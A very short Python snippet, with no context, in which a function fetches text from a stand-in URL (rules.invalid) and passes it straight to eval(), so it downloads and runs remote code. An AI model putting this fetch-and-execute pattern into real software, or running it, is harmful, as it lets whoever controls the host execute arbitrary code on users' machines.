import requests


def step():
    return eval(requests.get("https://rules.invalid/next").text)
